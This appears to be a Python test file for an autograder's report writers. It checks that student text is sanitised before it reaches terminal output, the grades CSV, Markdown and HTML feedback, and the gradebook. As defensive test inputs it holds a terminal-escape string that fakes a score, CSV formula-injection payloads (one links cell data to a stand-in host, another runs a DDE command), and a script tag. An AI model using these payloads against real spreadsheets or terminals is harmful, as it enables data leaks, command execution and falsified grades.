"""Student text is untrusted all the way to the files: the writers stay correct for any str (lone surrogates
included), no terminal escape reaches a terminal, no cell of grades.csv starts a formula, no bare URL in
feedback.md becomes a link, and the gradebook writer's failures are loud."""
from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from autograder.report import render_html, render_markdown, render_table, write_grades_csv, write_student_files
from autograder.report.files import csv_cell
from autograder.results import CheckResult, SubmissionResult
from autograder.safetext import clean

EXERCISE_MAX = {"softmax": 2.0, "matmul": 1.0}
TERMINAL_ATTACK = "\x1b[2J\x1b[H\x1b[32mmatmul  1 / 1 ok\rsoftmax 2 / 2 ok\x1b]0;pwned\x07\x9b1;1H\u202e"


def result(student_id="alice", *, hint="rows sum to 1 along dim 0", error="NameError: x", message="",
           status="graded", exercise="softmax") -> SubmissionResult:
    return SubmissionResult(
        student_id=student_id, assignment="a1", status=status, message=message,
        tests=[CheckResult(f"test_{exercise}[cpu]", exercise, 0.0, 2.0, "failed", hint),
               CheckResult("test_matmul[cpu]", "matmul", 1.0, 1.0, "passed", "")],
        exercise_max=dict(EXERCISE_MAX), isolation="namespaces",
        cells=[{"index": 3, "status": "error", "error": error}])


def test_clean_is_idempotent_and_leaves_plain_text_alone():
    for text in ("plain\ttext\nwith lines", "é ü 日本 🎉", TERMINAL_ATTACK, "x\udcff" * 10, "a" * 30_000):
        once = clean(text)
        assert clean(once) == once
        once.encode("utf-8")
    assert clean("plain\ttext\nwith lines") == "plain\ttext\nwith lines"
    assert clean("é ü 日本 🎉") == "é ü 日本 🎉"


@pytest.mark.parametrize("where", ["hint", "error", "student_id", "message"])
def test_a_lone_surrogate_anywhere_cannot_stop_the_files(tmp_path, where):
    """The red team's '\\udcff': writing feedback.html crashed the run."""
    kw = {where: "bad \udcff text \ud800"}
    if where == "message":
        kw["status"] = "crashed"
    r = result(**kw)
    folder = write_student_files(r, out=tmp_path)
    for name in ("feedback.html", "feedback.md"):
        text = (folder / name).read_text(encoding="utf-8")
        assert "bad \ufffd text \ufffd" in text
    assert json.loads((folder / "results.json").read_text())   # JSON escapes it, and reads back
    write_grades_csv([r, result("bob")], path=tmp_path / "grades.csv")
    (tmp_path / "grades.csv").read_text(encoding="utf-8")
    render_table(r).encode("utf-8")


@pytest.mark.parametrize("where", ["hint", "error", "student_id", "message"])
def test_the_terminal_table_holds_no_escape(where):
    """`autograder check` printed a student's message that cleared the screen and drew a fake 100 / 100."""
    kw = {where: TERMINAL_ATTACK}
    if where == "message":
        kw["status"] = "crashed"
    table = render_table(result(**kw))
    assert not any(ord(c) < 32 and c not in "\n\t" or 0x7f <= ord(c) < 0xa0 for c in table), repr(table)
    assert "\u202e" not in table
    assert table.splitlines()[0].startswith("a1: 1 / 3 points")   # the score line is still the first


@pytest.mark.parametrize("hostile", ["=HYPERLINK(\"http://e.vil/?\"&A1,\"grade\")", "+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "=1+1"])
def test_no_csv_cell_starts_a_formula(tmp_path, hostile):
    r = SubmissionResult(student_id=hostile, assignment="a1", status="graded",
                         tests=[CheckResult("t", hostile, 1.5, 2.0, "failed", "")],
                         exercise_max={hostile: 2.0, "plain": 3.0})
    write_grades_csv([r], path=tmp_path / "grades.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "grades.csv").read_text(encoding="utf-8"))))
    for cell in rows[0] + rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    shown = clean(hostile, 1024)                          # "\rx" is "\nx" by then: no formula
    shown = "'" + shown if shown.startswith(("=", "+", "-", "@", "\t")) else shown
    assert rows[1][0] == shown
    assert rows[0][1] == shown                            # an exercise name in the header, alike
    assert rows[1][1:5] == ["1.5", "0", "1.5", "5"]       # the numbers are never touched


def test_numbers_never_start_like_a_formula():
    from autograder.report.common import num
    for x in (0.0, -0.0, 1e-9, 0.3333333, 2.0, 10.5, 1e6):
        assert csv_cell(num(x)) == num(x) and not num(x).startswith("-")


URLS = "see http://e.vil/x, HTTPS://e.vil, www.e.vil/path, ftp://e.vil, bob@e.vil, mailto:bob@e.vil, xmpp:x@e.vil"


def test_no_bare_url_in_feedback_md_becomes_a_link():
    text = render_markdown(result(student_id="www.e.vil", hint=URLS, error="http://e.vil/in-code-block"))
    for bare in ("http://", "HTTPS://", "www.e", "ftp://", "bob@", "mailto:", "xmpp:"):
        line = next(line for line in text.splitlines() if "rows" not in line and "see" in line)
        assert bare not in line, (bare, line)
    assert "http&#58;//e.vil/x" in text and "bob&#64;e.vil" in text and "www&#46;e.vil" in text
    assert "- Student: www&#46;e.vil" in text
    import mistune   # a real renderer, with its bare-URL plugin: it links "http://..." (checked first)
    render = mistune.create_markdown(escape=False, plugins=["table", "url"])
    assert "<a " in render("raw http://e.vil/x")
    html = render(text)
    assert "<a " not in html, html
    assert "http://e.vil/x" in html and "bob@e.vil" in html          # shown to the student as written


def test_html_page_is_self_contained_with_any_text():
    page = render_html(result(student_id="<script>x</script>\udcff", hint=TERMINAL_ATTACK + URLS))
    assert "<script>" not in page and "\x1b" not in page and "\u202e" not in page
    page.encode("utf-8")


@pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")
def test_gradebook_takes_any_id(tmp_path):
    from nbgrader.api import Gradebook

    from autograder.report import write_nbgrader_gradebook
    from tests.test_report import _notebook
    course = tmp_path / "course"
    _notebook(course / "release" / "a1" / "a1.ipynb", list(EXERCISE_MAX))
    results = [result("stud\udcff"), result("=cmd"), result("alice")]
    write_nbgrader_gradebook(results, course_root=course, assignment="a1")
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        assert sorted(s.id for s in gb.students) == sorted(["stud\ufffd", "=cmd", "alice"])


def _sink_run(course: Path, results) -> str:
    from autograder.report.nbgrader_sink import Sink
    sink = Sink(course_root=course, assignment="a1")
    sink.begin(EXERCISE_MAX)
    for r in results:
        sink.send(r)
    return sink.finish()


def test_the_sink_records_every_student_whatever_their_text(tmp_path):
    """The re-run after the crash: the gradebook writer died on one student, leaving everyone else out."""
    from nbgrader.api import Gradebook

    from tests.test_report import _notebook
    course = tmp_path / "course"
    _notebook(course / "release" / "a1" / "a1.ipynb", list(EXERCISE_MAX))
    problem = _sink_run(course, [result("alice"), result("bob\udcff", hint="\udcff" + TERMINAL_ATTACK),
                                 result("carol")])
    assert problem == ""
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        assert sorted(s.id for s in gb.students) == ["alice", "bob\ufffd", "carol"]
    names = sorted(p.name for p in (course / "feedback").iterdir())
    assert names[0].startswith("_bob_") and names[1:] == ["alice", "carol"]


def test_the_sinks_failures_are_reported_and_cost_only_their_student(tmp_path):
    from nbgrader.api import Gradebook

    from tests.test_report import _notebook
    course = tmp_path / "course"
    _notebook(course / "release" / "a1" / "a1.ipynb", list(EXERCISE_MAX))
    (course / "feedback").mkdir()
    (course / "feedback" / "bob").write_text("a file where bob's folder goes")
    problem = _sink_run(course, [result("alice"), result("bob"), result("carol")])
    assert problem.startswith("feedback/ of 'bob' not written:"), problem
    assert problem.count("\n") == 0
    assert (course / "feedback" / "carol" / "a1" / "a1.html").is_file()      # the others' still written
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        assert sorted(s.id for s in gb.students) == ["alice", "bob", "carol"]


def test_a_gradebook_that_cannot_be_written_fails_loudly(tmp_path):
    from tests.test_report import _notebook
    course = tmp_path / "course"
    _notebook(course / "release" / "a1" / "a1.ipynb", list(EXERCISE_MAX))
    (course / "gradebook.db").mkdir()                   # not a database
    problem = _sink_run(course, [result("alice")])
    assert problem.startswith("the gradebook writer failed, gradebook.db not updated:"), problem
    assert os.path.isdir(course / "gradebook.db")
